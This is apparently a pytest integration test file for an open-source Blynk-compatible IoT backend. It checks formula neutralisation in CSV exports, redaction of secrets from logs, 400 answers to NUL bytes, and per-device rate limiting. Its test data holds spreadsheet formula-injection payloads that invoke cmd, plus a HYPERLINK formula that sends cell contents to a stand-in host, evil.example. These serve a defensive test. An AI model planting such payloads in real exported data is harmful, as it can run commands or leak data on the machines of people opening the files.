"""Issue #11 item 7, the smaller holes of the HTTP surfaces, against the real broker and app
(logging at DEBUG, so the log test sees every line the processes can write):

- CSV exports (``data/get`` with its ``events.csv``, the platform API's export) neutralise
  cells a spreadsheet would run as formulas, and keep plain numbers as numbers;
- no device token, client secret, refresh token or password reaches a log line;
- a NUL byte in a text parameter is answered 400 in each surface's own error shape, not 500;
- the HTTP device API keeps Blynk's per-device rate limit (429 with Blynk's error body).
"""

from __future__ import annotations

import concurrent.futures
import csv
import io
import time
import uuid
import zipfile
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from backend.transfer.schemas import DeviceOut
from tests.integration.backend.conftest import connect_device
from tests.support.accounts import ROOT_ADMIN, AccountsStack, Api, start_accounts_stack
from tests.support.blynk import blynk_error
from tests.support.net import wait_for
from tests.support.provision import provision, thermostat_doc

V1 = "/api/v1/organization"
RATE = 10
"""OPENBLYNK_DEVICE_RATE_LIMIT of this module's stack: low, so that a burst of 200 requests is
over it on any machine (200 requests would have to take 19 s to stay under it)."""
NUL_MESSAGE = "Text must not contain the NUL character (\\u0000)."
HOSTILE = [
    "=1+2",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://evil.example/?"&A1, "x")',
    "door, open",
    "-5",
    "+1.5e3",
]
"""String values a device may send: the formulas get a leading quote, the rest stays."""
NEUTRALISED = [
    "'=1+2",
    "'+1+cmd|' /C calc'!A0",
    "'-2+3+cmd|' /C calc'!A0",
    "'@SUM(1+1)*cmd|' /C calc'!A0",
    "'\t=1+2",
    "'\r=1+2",
    '\'=HYPERLINK("http://evil.example/?"&A1, "x")',
    "door, open",
    "-5",
    "+1.5e3",
]


@pytest.fixture(scope="module")
def acc(pg_server: str, template_db: str) -> Iterator[AccountsStack]:
    yield from start_accounts_stack(pg_server, template_db, "smalls", log_level="DEBUG", device_rate_limit=str(RATE))


@pytest.fixture(scope="module")
def root(acc: AccountsStack) -> Iterator[Api]:
    with acc.login(*ROOT_ADMIN) as api:
        yield api


@pytest.fixture(scope="module")
def oauth_client(root: Api) -> dict[str, Any]:
    """An OAuth client of the root organization with every permission."""
    r = root.post("/api/oauth2/clients", json={"name": f"Smalls {uuid.uuid4().hex[:6]}", "org_id": None})
    assert r.status_code == 201, r.text
    return dict(r.json())


@pytest.fixture(scope="module")
def bearer(acc: AccountsStack, oauth_client: dict[str, Any]) -> Iterator[httpx.Client]:
    r = httpx.post(
        f"{acc.base_url}/oauth2/token",
        params={"grant_type": "client_credentials"},
        auth=(oauth_client["client"]["client_id"], oauth_client["client_secret"]),
    )
    assert r.status_code == 200, r.text
    with httpx.Client(
        base_url=acc.base_url, timeout=30, headers={"Authorization": f"Bearer {r.json()['access_token']}"}
    ) as client:
        yield client


@pytest.fixture
def http(acc: AccountsStack) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=acc.base_url, timeout=30) as client:
        yield client


@pytest.fixture
def devices(acc: AccountsStack) -> list[DeviceOut]:
    """Two fresh devices in the root organization whose datastreams keep raw points."""
    return provision(acc.config.database_url, thermostat_doc(devices=2, save_raw=True)).devices


def now_ms(acc: AccountsStack) -> int:
    with acc.db() as db:
        row = db.execute("SELECT (extract(epoch FROM now()) * 1000)::bigint").fetchone()
    assert row is not None
    return int(row[0])


def put(http: httpx.Client, token: str, pin: str, points: list[list[object]]) -> None:
    r = http.post("/external/api/batch/update", params={"token": token, "pin": pin}, json=points)
    assert r.status_code == 200, r.text


def zip_members(http: httpx.Client, link: str) -> dict[str, list[list[str]]]:
    r = http.get(link)
    assert r.status_code == 200, r.text
    with zipfile.ZipFile(io.BytesIO(r.content)) as zf:
        return {
            name: list(csv.reader(io.TextIOWrapper(zf.open(name), encoding="utf-8", newline="")))
            for name in zf.namelist()
        }


# -- CSV exports ---------------------------------------------------------------------------------


def test_data_get_export_neutralises_formulas_in_values_and_events(
    acc: AccountsStack, http: httpx.Client, devices: list[DeviceOut]
) -> None:
    token, start = devices[0].token, now_ms(acc) - 600_000
    put(http, token, "v2", [[start + i * 1000, text] for i, text in enumerate(HOSTILE)])
    put(http, token, "v0", [[start, -3.5], [start + 1000, 20], [start + 2000, -40]])
    r = http.get(
        "/external/api/logEvent", params={"token": token, "code": "overheat", "description": "=cmd|' /C calc'!A0"}
    )
    assert r.status_code == 200, r.text
    r = http.get("/external/api/data/get", params={"token": token, "pin": "v2", "period": "DAY", "sendEvents": "true"})
    assert r.status_code == 200, r.text
    members = zip_members(http, r.json()["link"])
    (data,) = [rows for name, rows in members.items() if name != "events.csv"]
    assert [row[2] for row in data[1:]] == NEUTRALISED
    events = [row for row in members["events.csv"][1:] if row[1] == "event"]
    assert [row[2:] for row in events] == [["overheat", "warning", "'=cmd|' /C calc'!A0"]]
    r = http.get("/external/api/data/get", params={"token": token, "pin": "v0", "period": "DAY"})
    (numbers,) = zip_members(http, r.json()["link"]).values()
    assert [row[2] for row in numbers[1:]] == ["-3.5", "20.0", "-40.0"]  # negative numbers stay numbers


def test_platform_api_csv_export_neutralises_formulas(
    acc: AccountsStack, http: httpx.Client, bearer: httpx.Client, devices: list[DeviceOut]
) -> None:
    dev, start = devices[0], now_ms(acc) - 600_000
    put(http, dev.token, "v2", [[start + i * 1000, text] for i, text in enumerate(HOSTILE)])
    put(http, dev.token, "v0", [[start, -3.5]])
    query: dict[str, Any] = {"deviceId": dev.id, "from": start, "to": start + 60_000, "format": "csv"}
    wait_for(
        lambda: (
            len(bearer.get(f"{V1}/device/datastream/export", params={**query, "pin": "v2", "format": "json"}).json())
            == len(HOSTILE)
        ),
        message="the imported points to be written",
    )
    r = bearer.get(f"{V1}/device/datastream/export", params={**query, "pin": "v2"})
    assert r.status_code == 200, r.text
    header, *rows = list(csv.reader(io.StringIO(r.text, newline="")))
    assert header == ["ts", "time", "value"]
    assert [row[2] for row in rows] == NEUTRALISED
    r = bearer.get(f"{V1}/device/datastream/export", params={**query, "pin": "v0"})
    assert [row[2] for row in list(csv.reader(io.StringIO(r.text, newline="")))[1:]] == ["-3.5"]


# -- secrets in logs -------------------------------------------------------------------------------


def test_debug_logs_show_requests_but_never_secrets(
    acc: AccountsStack, http: httpx.Client, oauth_client: dict[str, Any], devices: list[DeviceOut]
) -> None:
    token = devices[0].token
    client_id, secret = oauth_client["client"]["client_id"], oauth_client["client_secret"]
    assert http.get(f"/external/api/get?token={token}&v0").status_code == 200
    r = http.post(
        "/oauth2/token", params={"grant_type": "client_credentials", "client_id": client_id, "client_secret": secret}
    )
    assert r.status_code == 200, r.text
    refresh = r.json()["refresh_token"]
    r = http.post(
        f"/oauth2/token?grant_type=refresh_token&client_id={client_id}&client_secret={secret}&refresh_token={refresh}"
    )
    assert r.status_code == 200, r.text
    login = http.post("/api/auth/login", json={"email": ROOT_ADMIN[0], "password": ROOT_ADMIN[1]})
    assert login.status_code == 200, login.text
    device = connect_device(acc.config, devices[0])  # the token as the MQTT password, at the broker
    device.publish("ds/Label", "logged", qos=1)
    device.client.disconnect()
    device.client.loop_stop()
    broker_log = acc.config.data_dir / "broker.log"
    wait_for(lambda: '"POST /oauth2/token?grant_type=refresh_token' in acc.app.log(), message="the access log lines")
    wait_for(
        lambda: f"dev:{devices[0].id} " in broker_log.read_text(errors="replace"),
        message="the broker's DEBUG lines about the device's session",
    )
    app_log, broker = acc.app.log(), broker_log.read_text(errors="replace")
    for leaked in (token, secret, refresh, ROOT_ADMIN[1], login.json()["csrf_token"]):
        assert leaked not in app_log
        assert leaked not in broker
    # the lines are there, without the secrets
    assert '"GET /external/api/get?token=***&v0 HTTP/1.1" 200' in app_log
    assert f"client_id={client_id}&client_secret=***&refresh_token=***" in app_log


# -- NUL bytes ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "params"),
    [
        (f"{V1}/device/by-owner", {"ownerEmail": "admin\x00@openblynk.local"}),
        (f"{V1}/device/by-user-org", {"userEmail": "admin\x00@openblynk.local"}),
    ],
)
def test_nul_in_a_platform_api_parameter_is_400(bearer: httpx.Client, path: str, params: dict[str, str]) -> None:
    r = bearer.get(path, params=params)
    assert r.status_code == 400, r.text[-400:]
    assert r.json() == blynk_error(NUL_MESSAGE)


def test_nul_in_the_login_email_is_400(http: httpx.Client) -> None:
    r = http.post("/api/auth/login", json={"email": "admin\x00@openblynk.local", "password": ROOT_ADMIN[1]})
    assert r.status_code == 400, r.text[-400:]
    assert r.json() == blynk_error(NUL_MESSAGE)


def test_nul_in_a_json_body_of_the_api_is_400(root: Api) -> None:
    r = root.post("/api/orgs", json={"name": "Evil\x00 Corp"})
    assert r.status_code == 400, r.text[-400:]
    assert r.json() == blynk_error(NUL_MESSAGE)


def test_nul_in_the_console_device_search_is_a_400_page(root: Api) -> None:
    r = root.get("/devices", params={"q": "kitchen\x00"})
    assert r.status_code == 400, r.text[-400:]
    assert r.headers["content-type"].startswith("text/html")
    assert "Text must not contain the NUL character" in r.text


def test_nul_in_a_device_api_event_description_is_blynks_400(http: httpx.Client, devices: list[DeviceOut]) -> None:
    r = http.get(
        "/external/api/logEvent", params={"token": devices[0].token, "code": "overheat", "description": "too\x00hot"}
    )
    assert r.status_code == 400, r.text[-400:]
    assert r.json() == blynk_error(NUL_MESSAGE)


# -- HTTP device API rate limit ----------------------------------------------------------------------


def test_http_device_api_keeps_blynks_per_device_rate_limit(http: httpx.Client, devices: list[DeviceOut]) -> None:
    flooder, quiet = devices[0].token, devices[1].token

    def get(token: str) -> httpx.Response:
        return http.get(f"/external/api/get?token={token}&v0")

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        # the quiet device's requests go in among the flood, within its own budget
        burst, others = [], []
        for i in range(200):
            burst.append(pool.submit(get, flooder))
            if i % 40 == 20:
                others.append(pool.submit(get, quiet))
        answers = [f.result() for f in burst]
        assert [f.result().status_code for f in others] == [200] * 5
    refused = [r for r in answers if r.status_code == 429]
    assert refused and len(refused) + sum(r.status_code == 200 for r in answers) == 200
    assert refused[0].json() == blynk_error(
        f"Request rate limit has been reached. Maximum is {RATE} requests per second per device."
    )
    assert refused[0].headers["retry-after"] == "1"
    time.sleep(1.0)  # the bucket refills at RATE a second
    assert get(flooder).status_code == 200
